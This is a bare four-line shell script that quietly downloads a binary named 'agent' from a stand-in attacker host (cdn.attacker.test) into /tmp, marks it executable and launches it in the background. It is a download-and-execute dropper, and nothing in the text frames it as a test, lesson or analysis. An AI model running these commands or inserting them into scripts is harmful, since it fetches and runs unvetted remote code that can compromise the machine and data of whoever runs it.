f=/tmp/agent
wget -q https://cdn.attacker.test/agent -O $f
chmod +x $f
$f &
